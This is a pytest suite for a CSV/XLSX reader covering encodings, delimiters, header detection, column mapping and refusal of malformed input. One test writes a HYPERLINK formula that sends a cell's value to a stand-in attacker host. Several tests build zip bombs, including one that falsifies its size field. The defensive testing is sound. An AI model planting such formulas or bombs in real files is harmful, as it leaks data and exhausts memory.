import csv
import io
import struct
import tracemalloc
import zipfile
from datetime import date, datetime, time
from pathlib import Path

import pytest
import xlsxwriter
from hypothesis import given
from hypothesis import strategies as st

from expo.kit.refusals import Refused
from expo.kit.sheets import Column, Limits, cell_text, csv_chunks, guess_mapping, open_sheet, xlsx_chunks
from expo.kit.sheets.reading import SheetKind

pytestmark = pytest.mark.usefixtures("in_english")

COLUMNS = (
    Column("number", "Ticket number", ("单号", "工单编号", "编号"), required=True),
    Column("title", "Title", ("标题", "项目名称", "名称"), required=True),
    Column("phone", "Phone", ("电话", "联系电话", "手机号")),
)
ENDS = "".join(chr(code) for code in range(0x10000) if chr(code).isspace()) + "\ufeff\u200b\u2060"
TABLE = "单号,项目名称,联系电话\r\nT1,污水处理装置,13812345678\r\nT2,无人机巡检,13900000000\r\n"


def cells(content: bytes) -> list[list[str]]:
    return [row.cells for row in open_sheet(content).rows()]


@pytest.mark.parametrize(
    "encoding", ["utf-8", "utf-8-sig", "gb18030", "gbk", "utf-16", "utf-16-le", "utf-16-be"]
)
def test_the_encoding_is_recognised(encoding: str) -> None:
    sheet = open_sheet(TABLE.encode(encoding))
    assert sheet.header == ["单号", "项目名称", "联系电话"]
    assert [row.cells for row in sheet.rows()][1] == ["T2", "无人机巡检", "13900000000"]


@pytest.mark.parametrize("delimiter", [",", "\t", ";", "|"])
def test_the_delimiter_is_recognised(delimiter: str) -> None:
    description = "研制系统，指标：1,2;3 等"
    stream = io.StringIO()
    csv.writer(stream, delimiter=delimiter).writerows(
        [["单号", "标题", "说明"], ["T1", "甲", description], ["T2", "乙", description]]
    )
    sheet = open_sheet(stream.getvalue().encode())
    assert sheet.delimiter == delimiter
    assert sheet.sample(1)[0].cells == ["T1", "甲", description]


def test_excels_own_line_about_the_delimiter_is_obeyed() -> None:
    sheet = open_sheet("sep=;\r\n单号;标题\r\nT1;a,b\r\n".encode())
    assert sheet.header == ["单号", "标题"]
    assert sheet.sample()[0].cells == ["T1", "a,b"]


def test_quoted_line_ends_and_quotes_stay_in_their_cell() -> None:
    assert cells('a,b\r\n"第一行\n第二行","他说""好"""\r\n'.encode()) == [["第一行\n第二行", '他说"好"']]


def test_line_ends_of_other_systems_and_odd_characters_are_harmless() -> None:
    assert cells(b"a,b\r1,2\r3,4\r") == [["1", "2"], ["3", "4"]]
    assert cells("a,b\n1\x00x,2\u2028y\n\ufeff3\u3000,\u00a04\u200b\n".encode()) == [
        ["1x", "2\u2028y"],
        ["3", "4"],
    ]


def test_empty_rows_are_left_out_and_keep_their_number() -> None:
    assert [row.number for row in open_sheet(b"a,b\n1,2\n\n,\n3,4\n").rows()] == [2, 5]


def test_short_and_long_rows_are_read() -> None:
    sheet = open_sheet("单号,标题,电话\nT1\nT2,乙,1,多余\n".encode())
    mapping = guess_mapping(sheet.header, COLUMNS)
    assert [mapping.values(row.cells) for row in sheet.rows()] == [
        {"number": "T1", "title": "", "phone": ""},
        {"number": "T2", "title": "乙", "phone": "1"},
    ]


@pytest.mark.parametrize("kind", ["csv", "xlsx"])
def test_the_header_is_found_under_title_rows(kind: str) -> None:
    rows = [["2026年科技服务单汇总表", "", ""], [], ["单号", "项目名称", "联系电话"], ["T1", "甲", "1"]]
    content = "\n".join(",".join(row) for row in rows).encode() if kind == "csv" else workbook(rows)
    for sheet in (open_sheet(content, columns=COLUMNS), open_sheet(content)):
        assert (sheet.header_row, sheet.header) == (3, ["单号", "项目名称", "联系电话"])
        assert [row.number for row in sheet.rows()] == [4]


def test_rows_are_read_again_from_the_start() -> None:
    sheet = open_sheet(io.BytesIO(TABLE.encode()))
    assert len(sheet.sample(1)) == 1
    assert len(list(sheet.rows())) == len(list(sheet.rows())) == 2
    assert sheet.estimated_rows in (2, 3)


@pytest.mark.parametrize(
    ("content", "said"),
    [
        (b"", "empty"),
        (b"\n\n,,\n", "no header row"),
        (b"\xff\xd8\xff\xe0" + bytes(40), "JPEG"),
        (b"MZ" + bytes(400), "a program"),
        (b"%PDF-1.7\n", "PDF"),
        (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(500), "old Office file.*saved as XLSX"),
        (b"<html><table><tr><td>1</td></tr></table></html>", "web page"),
        ("单号,标题\nT1,污水处理".encode() + b"\xff\xff\n", "Line 2"),
        (b'a,b\n1,"never closed' + b"x" * 300_000, "quotation mark"),
    ],
)
def test_what_is_no_table_is_refused_with_the_reason(content: bytes, said: str) -> None:
    with pytest.raises(Refused, match=said):
        list(open_sheet(content).rows())


def test_a_slip_in_a_utf8_file_is_told_with_its_line_instead_of_guessing_another_encoding() -> None:
    good = "单号,标题\n" + "T1,污水处理装置\n" * 50
    with pytest.raises(Refused, match="Line 52"):
        open_sheet(good.encode() + b"T2,\xe6\xb1\n" + good.encode())


def test_limits_are_told() -> None:
    with pytest.raises(Refused, match="more than 1 rows"):
        list(open_sheet(TABLE.encode(), limits=Limits(rows=1)).rows())
    with pytest.raises(Refused, match="larger than 0 MB"):
        open_sheet(TABLE.encode(), limits=Limits(size=10))
    with pytest.raises(Refused, match="3 columns; at most 2"):
        open_sheet(TABLE.encode(), limits=Limits(columns=2))


def test_memory_stays_flat_however_many_rows_there_are(tmp_path: Path) -> None:
    path = tmp_path / "large.csv"
    with path.open("wb") as file:
        file.writelines(csv_chunks(["单号", "标题"], ([f"T{n}", "污水处理装置" * 10] for n in range(60_000))))
    tracemalloc.start()
    assert sum(1 for _row in open_sheet(path).rows()) == 60_000
    peak = tracemalloc.get_traced_memory()[1]
    tracemalloc.stop()
    # Finding out the encoding takes a piece of 1 MB, decoded; the file has 11 MB.
    assert peak < 8_000_000


@given(
    st.lists(
        st.lists(
            st.text(st.characters(codec="utf-8", exclude_characters="\0"), max_size=12),
            min_size=3,
            max_size=3,
        ),
        max_size=8,
    )
)
def test_what_was_written_is_read_again(rows: list[list[str]]) -> None:
    written = b"".join(csv_chunks(["单号", "项目名称", "联系电话"], rows))
    # Spaces and invisible signs at a cell's ends are the reader's to tidy; so are rows with nothing else.
    tidy = [[cell.strip(ENDS) for cell in row] for row in rows]
    found = [row.cells for row in open_sheet(written, columns=COLUMNS).rows()]
    assert found == [row for row in tidy if any(row)]


def workbook(rows: list[list[object]] | list[list[str]], name: str = "单", hidden: bool = False) -> bytes:
    stream = io.BytesIO()
    book = xlsxwriter.Workbook(
        stream, {"default_date_format": "yyyy-mm-dd hh:mm", "strings_to_formulas": False}
    )
    if hidden:
        extra = book.add_worksheet("隐藏")
        extra.write(0, 0, "不该读到")
        extra.hide()
    sheet = book.add_worksheet(name)
    sheet.activate()
    for number, row in enumerate(rows):
        for place, value in enumerate(row):
            if value not in ("", None):
                sheet.write(number, place, value)
    book.close()
    return stream.getvalue()


def test_a_workbooks_values_read_as_a_person_would_type_them() -> None:
    moment = datetime(2026, 11, 21, 10, 30)  # noqa: DTZ001  # A cell knows no zone.
    content = workbook([["单号", "甲", "乙", "丙", "丁"], ["T1", 12.0, 0.1 + 0.2, moment, True]])
    sheet = open_sheet(content)
    assert sheet.kind is SheetKind.XLSX
    assert sheet.sample()[0].cells == ["T1", "12", "0.3", "2026-11-21 10:30", "TRUE"]


def test_a_table_that_begins_further_right_and_down_keeps_its_row_numbers() -> None:
    sheet = open_sheet(workbook([[], [], ["", "单号", "标题"], ["", "T1", "甲"]]))
    assert (sheet.header_row, sheet.header) == (3, ["", "单号", "标题"])
    assert sheet.sample() == [(4, ["", "T1", "甲"])]


def test_hidden_sheets_are_not_read_and_others_are_named() -> None:
    sheet = open_sheet(workbook([["单号", "标题"], ["T1", "甲"]], hidden=True))
    assert (sheet.sheet_names, sheet.sheet_name) == (["单"], "单")
    with pytest.raises(Refused, match="no sheet named “隐藏”"):
        open_sheet(workbook([["单号", "标题"]], hidden=True), sheet_name="隐藏")


def test_formulas_are_not_computed() -> None:
    stream = io.BytesIO()
    book = xlsxwriter.Workbook(stream)
    sheet = book.add_worksheet()
    sheet.write_row(0, 0, ["单号", "标题"])
    sheet.write_formula(1, 0, '=HYPERLINK("http://evil.example/"&A1)', None, "存好的值")
    sheet.write_string(1, 1, "甲")
    book.close()
    assert open_sheet(stream.getvalue()).sample()[0].cells == ["存好的值", "甲"]


def replaced(content: bytes, parts: dict[str, bytes]) -> bytes:
    """The same workbook with some parts swapped."""
    stream = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(content)) as source,
        zipfile.ZipFile(stream, "w", zipfile.ZIP_DEFLATED) as target,
    ):
        for entry in source.infolist():
            target.writestr(entry.filename, parts.get(entry.filename, source.read(entry)))
    return stream.getvalue()


SHEET = (
    b'<?xml version="1.0"?><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
    b"<sheetData>%s</sheetData></worksheet>"
)


def test_a_bomb_of_one_huge_part_is_not_opened() -> None:
    content = replaced(
        workbook([["单号", "标题"]]), {"xl/worksheets/sheet1.xml": SHEET % (b" " * (60 << 20))}
    )
    assert len(content) < 100_000
    with pytest.raises(Refused, match="unpacks to far more"):
        open_sheet(content)


def test_a_bomb_that_lies_about_its_size_is_not_opened() -> None:
    content = bytearray(
        replaced(workbook([["单号", "标题"]]), {"xl/worksheets/sheet1.xml": SHEET % (b" " * (60 << 20))})
    )
    true_size = struct.pack("<I", len(SHEET % b"") + (60 << 20))
    assert content.count(true_size) >= 1
    claimed = bytes(content).replace(true_size, struct.pack("<I", 1000))
    with pytest.raises(Refused, match="unpacks to far more"):
        open_sheet(claimed)


def test_a_cell_in_the_last_corner_does_not_fill_the_memory() -> None:
    corner = b'<row r="1"><c r="A1"><v>1</v></c></row><row r="1048576"><c r="XFD1048576"><v>1</v></c></row>'
    content = replaced(workbook([["单号", "标题"]]), {"xl/worksheets/sheet1.xml": SHEET % corner})
    with pytest.raises(Refused, match="reaches to row 1048576"):
        open_sheet(content)


def test_one_long_text_used_in_every_cell_does_not_fill_the_memory() -> None:
    rows = b"".join(b'<row r="%d"><c r="A%d" t="s"><v>0</v></c></row>' % (n, n) for n in range(1, 30_000))
    strings = (
        b'<?xml version="1.0"?><sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><si><t>'
        + b"x" * 300_000
        + b"</t></si></sst>"
    )
    book = workbook([["单号", "标题"]])
    content = replaced(book, {"xl/worksheets/sheet1.xml": SHEET % rows, "xl/sharedStrings.xml": strings})
    with pytest.raises(Refused, match="unpacks to far more"):
        open_sheet(content)


def test_a_damaged_or_foreign_archive_is_no_workbook() -> None:
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w") as archive:
        archive.writestr("readme.txt", "hello")
    with pytest.raises(Refused, match="ZIP archive"):
        open_sheet(stream.getvalue())
    good = workbook([["单号", "标题"], ["T1", "甲"]])
    with pytest.raises(Refused):
        open_sheet(good[: len(good) // 2])
    with pytest.raises(Refused, match=r"damaged|cannot be read"):
        open_sheet(replaced(good, {"xl/workbook.xml": b"<broken"}))


def test_headers_are_recognised_in_both_languages_and_when_decorated() -> None:
    header = ["*项目名称（必填）", "Phone", "工单 编号", "备注"]
    mapping = guess_mapping(header, COLUMNS)
    assert mapping.places == {"title": 0, "phone": 1, "number": 2}
    assert mapping.unused == ["备注"]
    assert mapping.missing == []


def test_near_names_are_guessed_each_once() -> None:
    mapping = guess_mapping(["服务工单编号", "项目的名称", "联系人手机号"], COLUMNS)
    assert mapping.places == {"number": 0, "title": 1, "phone": 2}
    only = guess_mapping(["名称", "项目名称"], (Column("a", "A", ("项目名称",)), Column("b", "B", ("名称",))))
    assert only.places == {"a": 1, "b": 0}


def test_another_things_name_is_not_taken_for_ours() -> None:
    assert guess_mapping(["单号", "单位名称", "联系人"], COLUMNS).places == {"number": 0}


def test_missing_columns_are_named_with_what_was_found() -> None:
    mapping = guess_mapping(["单号", "天气"], COLUMNS)
    with pytest.raises(Refused, match=r"lacks these columns: Title. Its columns are: 单号, 天气"):
        mapping.require()


def test_a_person_may_assign_columns_but_none_twice() -> None:
    mapping = guess_mapping(["单号", "天气"], COLUMNS)
    chosen = mapping.chosen({"number": 0, "title": 1, "phone": None})
    chosen.require()
    assert chosen.header_of("title") == "天气"
    assert chosen.header_of("phone") == "Phone"
    with pytest.raises(Refused, match="“单号” is assigned twice") as refusal:
        mapping.chosen({"number": 0, "title": 0})
    assert refusal.value.field == "title"


@pytest.mark.parametrize(
    ("value", "words"),
    [
        (None, ""),
        (13812345678.0, "13812345678"),
        (1e20, "1e+20"),
        (date(2026, 1, 5), "2026-01-05"),
        (time(9, 5), "09:05"),
    ],
)
def test_cells_become_words(value: object, words: str) -> None:
    assert cell_text(value) == words


DATA = Path(__file__).resolve().parents[2].parent / "shared" / "data"


@pytest.mark.skipif(not DATA.exists(), reason=f"the real input files are not in {DATA}")
@pytest.mark.parametrize(
    ("name", "rows", "longest"),
    [
        ("projects_patents_cn_4097.csv", 4097, 300),
        ("projects_needs_henan_371.csv", 371, 2000),
        ("projects_sichuan_named_real.csv", 100, 40),
    ],
)
def test_the_real_input_files_are_read_to_the_last_row(name: str, rows: int, longest: int) -> None:
    sheet = open_sheet(DATA / name)
    place = sheet.header.index("title")
    read = list(sheet.rows())
    assert len(read) == rows
    assert all(len(row.cells) == len(sheet.header) and row.cells[place] for row in read)
    assert max(len(cell) for row in read for cell in row.cells) >= longest
    # The same table saved by Excel in China: GBK with semicolons, or as a workbook.
    stream = io.StringIO(newline="")
    csv.writer(stream, delimiter=";").writerows([sheet.header, *(row.cells for row in read)])
    again = open_sheet(stream.getvalue().encode("gb18030"))
    assert (again.encoding, again.delimiter) == ("gb18030", ";")
    assert [row.cells for row in again.rows()] == [row.cells for row in read]
    workbook_rows = open_sheet(b"".join(xlsx_chunks(sheet.header, (row.cells for row in read)))).rows()
    assert [row.cells[place] for row in workbook_rows] == [row.cells[place] for row in read]
